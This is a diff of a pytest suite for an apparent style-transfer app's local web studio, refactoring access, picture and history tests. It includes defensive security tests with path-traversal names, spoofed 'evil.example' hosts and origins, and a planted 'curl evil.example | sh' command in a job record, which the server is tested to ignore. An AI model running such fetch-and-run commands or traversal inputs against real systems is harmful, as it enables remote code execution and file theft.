@@ -38,7 +38,12 @@ from jaxnst.live import LiveLines, LiveReader, LiveWriter
 from jaxnst.objective import Terms
 from jaxnst.painting.plan import PATCH_STEPS, Stage, total_work, work_done
 from jaxnst.painting.stages import Progress
-from jaxnst.pictures.files import load_image, read_description, save_image
+from jaxnst.pictures.files import (
+    load_image,
+    load_numbers,
+    read_description,
+    save_image,
+)
 from jaxnst.pictures.samples import sample_path
 from jaxnst.recipes import RECIPES, get_recipe
 from jaxnst.request.manifest import as_json, check_manifest, read_manifest
@@ -47,14 +52,13 @@ from jaxnst.request.painting import RegionFile, StyleFile
 from jaxnst.request.terminal import as_command
 from jaxnst.studio import jobs, serve
 from jaxnst.studio import pictures as uploads
-from jaxnst.studio.assets import PAGE
-from jaxnst.studio.guard import Guard, Keys
-from jaxnst.studio.history import History, read_levels
+from jaxnst.studio.guard import Access, Guard
+from jaxnst.studio.history import History
 from jaxnst.studio.jobs import Worker
-from jaxnst.studio.names import Names
 from jaxnst.studio.news import News, pack
-from jaxnst.studio.serve import Server, listen
-from jaxnst.studio.server import Place, Studio
+from jaxnst.studio.pictures import Pictures
+from jaxnst.studio.serve import PAGE, Server, listen
+from jaxnst.studio.server import Studio
 from jaxnst.studio.settings import (
     Region,
     Settings,
@@ -78,10 +82,9 @@ LOOP = "loop of the studio"
 def running(worker=WORKER):
     """A studio that listens in a thread, until the block ends."""
     listener = listen(HOST, 0)
-    port = listener.getsockname()[1]
-    place = Place(host=HOST, port=port, folder=Path("studio"))
-    studio = Studio(place, Keys(TOKEN, COOKIE), Worker(worker))
-    server = Server(studio.app(), studio.leave)
+    studio = Studio(Path("studio"), Worker(worker))
+    studio.access = Access(HOST, listener.getsockname()[1], TOKEN, COOKIE)
+    server = Server(studio.app(studio.access), studio.leave)
     thread = threading.Thread(target=server.run, args=([listener],), name=LOOP)
     thread.start()
     try:
@@ -109,12 +112,12 @@ def visitor(studio, **headers):
 def insider(studio):
     """A client that opened an address, and says where it comes from."""
     with visitor(studio, origin=base(studio)) as client:
-        assert client.get(f"/?token={studio.keys.token}").status_code == 200
+        assert client.get(studio.access.address).status_code == 200
         yield client
 
 
 def base(studio):
-    return f"http://{HOST}:{studio.place.port}"
+    return f"http://{HOST}:{studio.access.port}"
 
 
 @pytest.fixture
@@ -184,14 +187,13 @@ def test_settings_become_arguments_that_the_command_understands():
         bits=16,
         set=("history=5", "min_size=64"),
     )
-    paths = {name: Path(f"{name}.png") for name in "abcm"}
-    painting = read_painting(painting_of(wanted, paths, "imagenet"))
+    painting = read_painting(painting_of(wanted, Path(), "imagenet"))
     args = parse(as_command(painting, Path("o.png")))
     assert painting_from(args, args.content, args.style) == painting
-    b, c = (StyleFile(path=paths[x], weight=y) for x, y in (("b", 2.0), ("c", 0.5)))
-    assert (painting.content, painting.styles) == (Path("a.png"), (b, c))
-    region = RegionFile(mask=Path("m.png"), styles=(StyleFile(path=paths["b"]),))
-    assert (painting.regions, painting.content_mask) == ((region,), Path("m.png"))
+    b, c = (StyleFile(path=Path(x), weight=y) for x, y in (("b", 2.0), ("c", 0.5)))
+    assert (painting.content, painting.styles) == (Path("a"), (b, c))
+    region = RegionFile(mask=Path("m"), styles=(StyleFile(path=Path("b")),))
+    assert (painting.regions, painting.content_mask) == ((region,), Path("m"))
     values = painting.recipe.values()
     assert (painting.size, painting.seed, painting.weights) == (320, 7, "imagenet")
     assert (values["content_weight"], values["style_scale"]) == (0.25, 1.5)
@@ -215,8 +217,7 @@ def test_strokes_are_asked_for_only_where_they_have_an_effect(name, further):
     chosen = Settings(
         content="a", styles=("b",), recipe=name, style_scale=2.0, set=further
     )
-    paths = {name: Path(f"{name}.png") for name in "ab"}
-    value = painting_of(chosen, paths, None)
+    value = painting_of(chosen, Path(), None)
     values = read_painting(value).recipe.values()
     idle = values["squash_style"] or not RECIPES[name].paints
     assert values["style_scale"] == (1.0 if idle else 2.0)
@@ -249,9 +250,8 @@ def test_regions_of_a_folder_of_any_name_are_divided_rightly(
         Path(name).touch()  # what a name could be misread as
     regions = Region("m", ("a", "b")), Region("b", ("b.png", "b,c.jpg", "a"))
     chosen = Settings(content="a", regions=regions, keep_rest=True)
-    paths = {name: sources / name for name in ("a", "b", "m", "b.png", "b,c.jpg")}
-    painting = read_painting(painting_of(chosen, paths, None))
-    a = StyleFile(path=paths["a"], mask=paths["m"], stroke_scale=2.0)
+    painting = read_painting(painting_of(chosen, sources, None))
+    a = StyleFile(path=sources / "a", mask=sources / "m", stroke_scale=2.0)
     masked = dataclasses.replace(painting, styles=(a,), keep_rest=False, regions=())
     for one in (painting, masked):
         args = parse(as_command(one, sources / "o.png"))
@@ -343,7 +343,7 @@ def test_an_address_opens_one_browser_which_then_has_a_cookie(stranger, studio):
     # A redirect would carry no strict cookie where a link of another site led here.
     assert (first.status_code, first.headers["refresh"]) == (200, "0; url=/")
     cookie = first.headers["set-cookie"].lower()
-    for part in (f"jaxnst-{studio.place.port}=", "httponly", "samesite=strict"):
+    for part in (f"jaxnst-{studio.access.port}=", "httponly", "samesite=strict"):
         assert part in cookie
     assert "path=/;" in f"{cookie};"
     assert TOKEN not in cookie
@@ -357,17 +357,17 @@ def test_an_address_opens_one_browser_which_then_has_a_cookie(stranger, studio):
         assert "opened before" in second.text
         assert "set-cookie" not in second.headers
         # The token of an address is no cookie, and the cookie opens no address.
-        for value in (TOKEN, studio.keys.token, "wrong"):
-            headers = {"cookie": f"jaxnst-{studio.place.port}={value}"}
+        for value in (TOKEN, studio.access.token, "wrong"):
+            headers = {"cookie": f"jaxnst-{studio.access.port}={value}"}
             assert other.get("/options", headers=headers).status_code == 403
         assert other.get(f"/?token={COOKIE}").status_code == 403
 
 
 def test_each_address_that_is_opened_is_followed_by_another_one(studio):
     printed = []
-    keys = studio.keys
-    keys.on_use = lambda: printed.append(keys.address(HOST, studio.place.port))
-    address = keys.address(HOST, studio.place.port)
+    access = studio.access
+    access.on_use = lambda: printed.append(access.address)
+    address = access.address
     for count in range(3):
         with httpx.Client() as client:
             assert client.get(address).status_code == 200
@@ -381,7 +381,7 @@ def test_each_address_that_is_opened_is_followed_by_another_one(studio):
     ["evil.example", "evil.example:{}", "127.0.0.1", "", "a@127.0.0.1:{}", "[::1:{}"],
 )
 def test_another_host_is_refused_whatever_the_token(client, studio, host):
-    headers = {"host": host.format(studio.place.port)}
+    headers = {"host": host.format(studio.access.port)}
     del client.headers["origin"]
     assert client.get("/options", headers=headers).status_code == 421
 
@@ -401,7 +401,7 @@ def test_another_host_is_refused_whatever_the_token(client, studio, host):
     ],
 )
 def test_a_name_that_anybody_can_point_here_is_never_ours(host, name, ours):
-    assert Guard(lambda *x: None, host, 80, Keys()).is_ours(name) == ours
+    assert Guard(lambda *x: None, Access(host, 80)).is_ours(name) == ours
 
 
 @pytest.mark.parametrize(
@@ -409,7 +409,7 @@ def test_a_name_that_anybody_can_point_here_is_never_ours(host, name, ours):
 )
 def test_another_origin_is_refused(client, studio, origin):
     data = {"kind": "picture", "settings": CHOSEN}
-    headers = {"origin": origin.format(studio.place.port)}
+    headers = {"origin": origin.format(studio.access.port)}
     assert client.post("/jobs", json=data, headers=headers).status_code == 403
     assert client.get("/options", headers=headers).status_code == 403
     del client.headers["origin"]  # no browser leaves it out
@@ -454,8 +454,8 @@ def test_no_path_of_the_machine_can_be_read(studio, place, tmp_path):
     names = ["../secret.png", "..%2Fsecret.png", "%2e%2e/secret.png", "..\\secret.png"]
     names += [str(tmp_path / "secret.png"), "%00", "..", "secret.png", "a" * 3000]
     for name in names:
-        caller = http.client.HTTPConnection(HOST, studio.place.port)
-        cookie = f"jaxnst-{studio.place.port}={COOKIE}"  # httpx would tidy the path up
+        caller = http.client.HTTPConnection(HOST, studio.access.port)
+        cookie = f"jaxnst-{studio.access.port}={COOKIE}"  # httpx would tidy the path up
         caller.request("GET", place % name, headers={"cookie": cookie})
         answer = caller.getresponse()
         text = answer.read().decode()
@@ -542,12 +542,12 @@ def test_pictures_keep_the_names_that_people_gave(client, studio):
         half = f'{{"{kept}": "\\ud800"}}'  # of a character
         for text in (f'{{"{kept}": 3}}', half, "[" * 10_000, "[]", ""):
             index.write_text(text)
-            assert Names(index.parent).find(kept) == "Bild-2.png"
+            assert Pictures(index.parent).find(kept).name == "Bild-2.png"
 
 
 def test_variations_are_found_again_as_a_group(client, studio):
-    job = paint(client, "preview", seed=5)
-    folder = studio.queue.find(job["id"]).group
+    paint(client, "preview", seed=5)
+    folder = studio.queue.jobs[0].group
     wait_for(lambda: studio.queue.jobs[0].over)
     painted = (folder / "1.png").read_bytes()
     others = groups_of_others(folder)
@@ -589,7 +589,8 @@ def groups_of_others(folder):
 
 
 def test_what_others_put_into_a_group_is_kept(client, studio):
-    job = studio.queue.find(paint(client, "preview")["id"])
+    paint(client, "preview")
+    job = studio.queue.jobs[0]
     wait_for(lambda: job.over)
     for name in ("mine.png", "mine.png.json"):
         (job.group / name).write_text("mine")
@@ -599,7 +600,8 @@ def test_what_others_put_into_a_group_is_kept(client, studio):
 
 
 def test_a_preview_that_painted_nothing_leaves_no_folder(client, studio):
-    job = studio.queue.find(paint(client, "preview", seed=2)["id"])
+    paint(client, "preview", seed=2)
+    job = studio.queue.jobs[0]
     wait_for(lambda: job.over)
     assert job.state == "failed"
     assert not job.group.exists()
@@ -647,7 +649,7 @@ def test_what_is_no_picture_is_refused_by_its_own_name(client, studio, data):
     assert "notes.png" in answer.text
     assert str(studio.pictures.private) not in answer.text
     assert not list(studio.pictures.private.iterdir())
-    assert studio.pictures.total == 0
+    assert total(studio) == 0
 
 
 def test_uploads_are_bounded_in_bytes_and_pixels(client, studio, monkeypatch):
@@ -662,6 +664,11 @@ def test_uploads_are_bounded_in_bytes_and_pixels(client, studio, monkeypatch):
     assert not list(studio.pictures.private.iterdir())
 
 
+def total(studio):
+    """Bytes of all uploads."""
+    return sum(studio.pictures.uploads.values())
+
+
 def test_a_full_place_for_uploads_is_said_and_emptied(client, studio, monkeypatch):
     size = len(png())
     monkeypatch.setattr(uploads, "MOST_OF_ALL", 2 * size)
@@ -670,18 +677,14 @@ def test_a_full_place_for_uploads_is_said_and_emptied(client, studio, monkeypatc
     assert refused.status_code == 413
     assert "of uploads in all" in refused.text
     assert "2 others wait to be painted from" in refused.text
-    assert studio.pictures.total == 2 * size
+    assert total(studio) == 2 * size
     # What is painted from lies beside the results, and takes no room here any more.
     paint(client, content=first["id"])
-    assert studio.pictures.total == size
+    assert total(studio) == size
     assert client.get(f"/pictures/{first['id']}/view").status_code == 200
     paint(client, content=first["id"])
     assert len(list(Path("studio/sources").glob("a-*.png"))) == 1
     assert upload(client, png()).status_code == 201
-    # What nobody has asked for makes room.
-    monkeypatch.setattr(uploads, "UNUSED", 0.0)
-    assert upload(client, png()).status_code == 201
-    assert studio.pictures.total == size
 
 
 def test_forty_megapixels_are_taken_up(client):
@@ -758,7 +761,7 @@ def test_jobs_share_no_folder_and_torn_lines_are_passed_over(client, studio):
     line = json.dumps({"scale": 0, "terms": {}, "frame": 1})
     (folder / "lines.jsonl").write_text(f"{line[:9]}{line}\n{line}\n")
     reader = LiveReader(folder)
-    assert reader.read()
+    reader.read()
     assert len(reader.lines) == 1
 
 
@@ -771,8 +774,8 @@ def test_a_job_for_which_there_is_no_room_leaves_no_record(client, studio, monke
 
 def test_results_of_any_name_are_downloaded(client, studio):
     name = 'Łódź "水".png'
-    save_image(studio.place.folder / name, np.zeros((4, 6, 3)))
-    write_manifest(studio.place.folder / name, terms={"style": 3.5})
+    save_image(studio.folder / name, np.zeros((4, 6, 3)))
+    write_manifest(studio.folder / name, terms={"style": 3.5})
     for kind in ("file", "tiff", "manifest"):
         answer = client.get(f"/history/{name}/{kind}")
         assert answer.status_code == 200
@@ -787,7 +790,7 @@ def test_a_stopped_run_that_goes_on_is_shown_anew(tmp_path):
     seen = []
     for shade in (0.2, 0.8):
         save_image(history.so_far("a.png"), np.full((4, 6, 3), shade))
-        seen.append(history.as_json(history.find("a.png"))["version"])
+        seen.append(history.find("a.png").version)
     assert seen[0] != seen[1]
 
 
@@ -863,11 +866,10 @@ def test_a_tiff_has_the_same_levels_and_the_same_manifest(client, tmp_path, bits
     save_image(target, image, bits=bits, description='{"a": 1}')
     write_manifest(target)
     answer = client.get("/history/a.png/tiff")
-    assert "filename*=utf-8''a.tif" in answer.headers["content-disposition"]
+    assert 'filename="a.tif"' in answer.headers["content-disposition"]
     (tmp_path / "b.tif").write_bytes(answer.content)
-    levels, found = read_levels(target)
-    assert found == bits
-    tiff = tifffile.imread(tmp_path / "b.tif")
+    levels, tiff = load_numbers(target), tifffile.imread(tmp_path / "b.tif")
+    assert tiff.dtype == f"uint{bits}"
     np.testing.assert_array_equal(tiff, np.rint(levels * (2**bits - 1)))
     np.testing.assert_allclose(levels, image, atol=0.51 / (2**bits - 1))
     assert read_description(tmp_path / "b.tif") == '{"a": 1}'
@@ -889,7 +891,7 @@ def test_it_listens_only_to_this_machine():
 
 
 def test_a_thousand_malformed_requests_leave_it_running(studio):
-    port = studio.place.port
+    port = studio.access.port
     chance = random.Random(0)
     cookie = f"Cookie: jaxnst-{port}={COOKIE}\r\nHost: {HOST}:{port}\r\n".encode()
     lines = [
@@ -918,7 +920,7 @@ def test_a_thousand_malformed_requests_leave_it_running(studio):
 
 
 def test_a_dropped_connection_leaves_no_file(studio):
-    port = studio.place.port
+    port = studio.access.port
     head = (
         f"POST /pictures?name=a.png HTTP/1.1\r\nHost: {HOST}:{port}\r\n"
         f"Origin: http://{HOST}:{port}\r\nCookie: jaxnst-{port}={COOKIE}\r\n"
@@ -928,7 +930,7 @@ def test_a_dropped_connection_leaves_no_file(studio):
         caller.sendall(head.encode() + b"x" * 5000)
         wait_for(lambda: list(studio.pictures.private.iterdir()))
     wait_for(lambda: not list(studio.pictures.private.iterdir()))
-    assert studio.pictures.total == 0
+    assert total(studio) == 0
 
 
 def test_a_tab_that_closes_loses_nothing_and_another_one_is_told(studio):
@@ -973,7 +975,7 @@ class Tab:
 
 
 def test_a_tab_of_a_thousand_results_and_a_full_queue_is_told_little(client, studio):
-    fill(studio.place.folder, 1000)
+    fill(studio.folder, 1000)
     first = client.get("/history").json()
     assert len(first["results"]) == 1000
     for seed in (1, *range(5, 45)):
@@ -989,7 +991,7 @@ def test_a_tab_of_a_thousand_results_and_a_full_queue_is_told_little(client, stu
             if "order" in event:
                 more_lines(job.folder, 30)
             if len(tab.jobs[job.id].get("terms", [])) > 30 * 8:
-                (studio.place.folder / "7.png.json").unlink()
+                (studio.folder / "7.png.json").unlink()
                 break
         for event in events:
             tab.take(event)
@@ -1071,7 +1073,8 @@ def test_only_what_has_changed_is_read_again(tmp_path, monkeypatch):
     reads.clear()
     for i in range(30):
         history.find(f"{i}.png")
-    before = history.refresh()
+    history.refresh()
+    before = history.revision
     assert reads == []
     write_manifest(tmp_path / "3.png", size=[4, 3])
     (tmp_path / "4.png").unlink()
@@ -1111,11 +1114,11 @@ def nested(levels):
 
 @pytest.mark.parametrize("levels", [50, 900, 960, 980, 985, 990])
 def test_what_nests_deep_ends_nothing(client, studio, levels):
-    fill(studio.place.folder, 1)
+    fill(studio.folder, 1)
     for text in (nested(levels), nested(levels - 1)):  # the second one is compared
-        (studio.place.folder / "0.png.json").write_text(text)
+        (studio.folder / "0.png.json").write_text(text)
         assert client.get("/history").json()["results"] == []
-    write_manifest(studio.place.folder / "0.png")
+    write_manifest(studio.folder / "0.png")
     assert len(client.get("/history").json()["results"]) == 1
 
 
@@ -1170,7 +1173,7 @@ def test_any_json_is_a_manifest_or_a_value_error(data):
 def test_a_command_is_made_anew_and_never_taken_from_a_file(client, studio):
     name = paint(client)["name"]
     wait_for(lambda: states(studio) == ["done"])
-    record = studio.place.folder / f"{name}.job.json"
+    record = studio.folder / f"{name}.job.json"
     kept = json.loads(record.read_text())
     evil = {
         "command": "curl evil.example | sh",
@@ -1178,10 +1181,8 @@ def test_a_command_is_made_anew_and_never_taken_from_a_file(client, studio):
     }
     record.write_text(json.dumps(kept | evil))
     (entry,) = client.get("/history").json()["results"]
-    sources = studio.place.folder / "sources"
-    paths = {path.name: path for path in sources.iterdir()}
     settings = read_settings(kept["settings"])
-    painting = read_painting(painting_of(settings, paths, "embedded"))
+    painting = read_painting(painting_of(settings, studio.sources, "embedded"))
     wanted = as_command(painting, Path("studio") / name)
     assert entry["command"] == shlex.join(["jaxnst", *wanted])
     # Settings that nobody can have chosen are none; the picture is still ours.
@@ -1192,11 +1193,11 @@ def test_a_command_is_made_anew_and_never_taken_from_a_file(client, studio):
 
 
 def test_thumbnails_are_made_once_and_may_be_kept(client, studio, monkeypatch):
-    fill(studio.place.folder, 3)
+    fill(studio.folder, 3)
     made = []
-    make = uploads.as_jpeg
+    make = uploads.thumbnail
     count = lambda path, edge: made.append(path.name) or make(path, edge)
-    monkeypatch.setattr(uploads, "as_jpeg", count)
+    monkeypatch.setattr(uploads, "thumbnail", count)
     for _ in range(2):
         for entry in client.get("/history").json()["results"]:
             address = f"/history/{entry['name']}/thumb?at={entry['version']}"
@@ -1204,7 +1205,7 @@ def test_thumbnails_are_made_once_and_may_be_kept(client, studio, monkeypatch):
             assert answer.status_code == 200
             assert "max-age" in answer.headers["cache-control"]
     assert sorted(made) == ["0.png", "1.png", "2.png"]
-    save_image(studio.place.folder / "1.png", np.ones((4, 6, 3)))
+    save_image(studio.folder / "1.png", np.ones((4, 6, 3)))
     thumb = client.get("/history/1.png/thumb").content
     assert pil.open(io.BytesIO(thumb)).getpixel((2, 2)) == (255, 255, 255)
 
@@ -1221,7 +1222,7 @@ def notice(event, args):
 
 def test_the_loop_waits_for_no_file(client, studio, tmp_path):
     """A slow disk or a large folder then stops no answer but its own."""
-    fill(studio.place.folder, 20)
+    fill(studio.folder, 20)
     sys.addaudithook(notice)
     opened_in_loop.clear()
     kept = upload(client, png()).json()["id"]
@@ -1323,7 +1324,7 @@ def test_the_process_that_paints_ends_once_its_studio_is_gone(tmp_path):
             process.stdin.write(json.dumps(job).encode() + b"\n")
             process.stdin.flush()
             reader = LiveReader(tmp_path)
-            wait_for(lambda: reader.read() and reader.lines)
+            wait_for(lambda: reader.read() or reader.lines)
             process.stdin.close()
             assert process.wait(30) == 0
         finally:
@@ -1350,8 +1351,7 @@ def test_a_run_that_is_watched_paints_the_same_picture(tmp_path, monkeypatch):
     assert stylize.paint(painting, dataclasses.replace(run, live_folder=live)) == 0
     assert Path("a.png").read_bytes() == Path("b.png").read_bytes()
     reader = LiveReader(live)
-    assert reader.read()
-    assert not reader.read()
+    reader.read()
     first, *_, last = reader.lines
     assert (first["step"], last["step"], last["done"]) == (1, 6, 1.0)
     assert last["size"] == [48, 36]
@@ -1372,7 +1372,7 @@ def test_patches_are_part_of_the_progress_and_said(tmp_path):
     patches = [30 * 40 * PATCH_STEPS, 60 * 80 * PATCH_STEPS]
     assert total == 30 * 40 * 6 + 60 * 80 * 4 + sum(patches)
     reader = LiveReader(tmp_path)
-    assert reader.read()
+    reader.read()
     assert reader.doing
     assert not reader.lines
     before = 30 * 40 * 6
@@ -1381,12 +1381,11 @@ def test_patches_are_part_of_the_progress_and_said(tmp_path):
         progress = Progress(stages, scale, taken, None, None, None)
         done = work_done(stages, recipe, scale, taken)
         assert done == work
-        line = lines.line(progress, recipe, done, total)
-        lines.write(line | {"terms": {}})
+        lines.step(progress, recipe, done, total)
         reader.read()
         assert ("atches" in reader.doing) == (taken == 6)
         after = done + patches[0] if taken == 6 else done
-        assert line["next"] == pytest.approx(after / total, abs=1e-4)
+        assert reader.lines[-1]["next"] == pytest.approx(after / total, abs=1e-4)
 
 
 def test_the_frame_is_new_though_the_first_one_took_long(tmp_path, monkeypatch):
